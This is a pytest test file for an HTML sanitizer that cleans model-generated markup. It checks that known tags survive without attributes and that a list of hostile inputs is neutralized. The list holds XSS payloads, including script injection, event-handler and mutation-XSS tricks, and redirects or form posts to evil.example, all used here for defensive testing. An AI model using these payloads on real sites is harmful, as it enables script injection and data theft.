"""HTML of a model's own: nothing of it acts, whatever it is."""

import re

import pytest

from greenroom.bots.tools.markup import EMPTY, KNOWN, plain_markup


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ("<p>Hello <b>there</b><br>you</p>", "<p>Hello <b>there</b><br>you</p>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one<li>two</li></li></ul>"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("<a href='javascript:x()'>click</a>", "click"),
        ("</p></div>text", "text"),
        ("<p style='position:fixed' id=x class=y>text", "<p>text</p>"),
        ("<svg><style>x</style><b>in</b></svg>out", "out"),
        ("<script>let a = '</p>'</script>out", "out"),
        ("<!-- <script> -->text<!doctype html><?php x ?>", "text"),
    ],
)
def test_known_elements_stay_without_attributes_and_text_is_text(html, shown):
    assert plain_markup(html) == shown


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/onerror=alert(1)/src=x>",
    "<svg/onload=alert(1)>",
    "<p onmouseover='alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=x><button>x",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import 'https://evil.example'</style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='><img src=x onerror=alert(1)>'>",
    '<table background="javascript:alert(1)"><td>x',
    "<template><script>alert(1)</script></template>",
    "<b>" * 1000,
    "\x00<scr\x00ipt>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_is_left_but_known_elements_without_attributes(html):
    shown = plain_markup(html)

    tags = re.findall(r"<(/?)([^>]*)>", shown)
    assert all(name in KNOWN | EMPTY for _, name in tags), shown
    assert shown.count("<") == len(tags)
    assert plain_markup(shown) == shown
